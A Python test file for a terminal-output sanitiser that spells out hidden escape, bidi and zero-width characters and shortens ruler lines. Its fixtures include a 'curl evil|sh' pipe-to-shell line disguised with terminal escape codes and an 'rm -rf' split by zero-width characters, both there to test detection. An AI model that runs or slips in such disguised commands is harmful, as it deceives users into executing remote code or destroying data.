"""Nothing that is shown hides anything, and ordinary text stays as it is."""

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tmuxjobs.errors import JobNotFound
from tmuxjobs.visible import SPELLED_OUT, short_rulers, visible, visible_json, visible_lines

SHOWN_THEMSELVES = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd")
"""Unicode's prepended concatenation marks: format characters with a glyph, as the Arabic number sign."""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl evil|sh\x1b[2K\x1b[1Gls -la", r"curl evil|sh\x1b[2K\x1b[1Gls -la"),
        ("\x1b]52;c;aGk=\a", r"\x1b]52;c;aGk=\x07"),
        ("one\r\n\ttwo\x7f", r"one\r\n\ttwo\x7f"),
        ("\x9b31m \x90q", r"\x9b31m \x90q"),
        ("access\u202etxt.exe\u2066", r"access\u202etxt.exe\u2066"),
        ("\u200e\u200f\u061c", r"\u200e\u200f\u061c"),
        ("ok\U000e0072\U000e006d", r"ok\U000e0072\U000e006d"),
        ("a\u2028b\x85c", r"a\u2028b\x85c"),
        ("r\u200dm -\u200brf \u2060\ufeff", r"r\u200dm -\u200brf \u2060\ufeff"),
        ("r\ufe0fm a\u3164b \U000e0100", r"r\ufe0fm a\u3164b \U000e0100"),
        ("⚠\ufe0f\ufe0f 👩\u200d\u200d💻", "⚠\ufe0f" + r"\ufe0f 👩" + "\u200d" + r"\u200d💻"),
        ("name\udc9b", r"name\udc9b"),
    ],
)
def test_hidden_characters_are_spelled_out(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    "text",
    ["", "make -j4 && echo 'ok' \\x", "grüße ✓ 日本語 한국어 \ue0b0 ⠿", "👩‍💻 ❤️‍🔥 🏳️‍🌈 👨🏻‍🤝‍👨🏼 1️⃣ ⚠️ ©️", "می‌خواهم क्‍ष"],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_newlines_and_tabs_stay_in_lines() -> None:
    assert visible("a\tb\n\x1bc\r\n", lines=True) == "a\tb\n\\x1bc\\r\n"


def test_flood_of_hidden_characters_is_counted() -> None:
    assert visible_lines("a\n" + "\U000e0041" * 50) == "a\n" + r"\U000e0041" * 50
    assert visible_lines("a\n" + "\U000e0041" * 20_000 + "b\u202e") == "a\n\\+20000b\\+1"


@given(
    st.lists(st.sampled_from(["\U000e0041", "\x1b", "a", "\n", "👩", "\u200d", "\ufe0f"])).map("".join),
    st.integers(1, 300),
)
def test_what_is_shown_grows_by_a_bound_and_hides_nothing(text: str, times: int) -> None:
    shown = visible_lines(text * times)
    assert len(shown) <= 2 * len(text * times) + SPELLED_OUT
    assert visible_lines(shown) == shown == visible(shown, lines=True)
    assert shown.count("\n") == (text * times).count("\n")


def test_every_format_and_control_character_is_shown() -> None:
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    hidden = {char for char in map(chr, range(0x110000)) if unicodedata.category(char) in kinds}
    assert {char for char in hidden if not visible(f"a{char}").isprintable()} == SHOWN_THEMSELVES


@given(st.text())
def test_what_is_shown_once_is_not_shown_again(text: str) -> None:
    assert visible(visible(text)) == visible(text)


@given(st.text(st.characters(blacklist_categories=["Cs"])))
def test_json_means_the_same_and_hides_nothing(text: str) -> None:
    shown = visible_json(json.dumps({text: [text]}, ensure_ascii=False))
    assert json.loads(shown) == {text: [text]}
    assert visible(shown) == shown


def test_error_shows_what_the_caller_gave() -> None:
    assert str(JobNotFound("\x1b]0;x\a\n[exit")).startswith(r"No job '\x1b]0;x\x07\n[exit'. ")


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("=" * 80, "[= x80]"),
        ("  " + "-" * 40 + " ", "  [- x40] "),
        ("━" * 100, "[━ x100]"),
        ("_" * 42 + " test_login " + "_" * 42, "[_ x42] test_login [_ x42]"),
        ("=" * 8 + " 1 failed, 3 passed in 0.12s " + "=" * 20, "=" * 8 + " 1 failed, 3 passed in 0.12s [= x20]"),
    ],
)
def test_ruler_is_short_and_tells_its_length(line: str, shown: str) -> None:
    assert short_rulers(f"a\n{line}\nb\n") == f"a\n{shown}\nb\n"


@pytest.mark.parametrize(
    "line",
    ["-" * 15, "0" * 80, "x" * 80, " " * 80, "+" + "-" * 30 + "+", "-" * 20 + "+" + "-" * 20, "a = '" + "=" * 40 + "'",
     "#" * 40 + " 40%", "=" * 30 + "> 3/4", "[" + "#" * 30 + "]"],
)  # fmt: skip
def test_what_is_not_a_ruler_stays(line: str) -> None:
    assert short_rulers(f"a\n{line}\nb") == f"a\n{line}\nb"


def test_filler_behind_the_end_of_a_file_is_counted() -> None:
    assert short_rulers("a\n" + "~\n" * 20 + "b") == "a\n[~ on 20 lines]\nb"
    for few in ("~\n" * 7, "x\n" * 20, "~~\n" * 20, "}\n" * 3):
        assert short_rulers(f"a\n{few}b") == f"a\n{few}b"
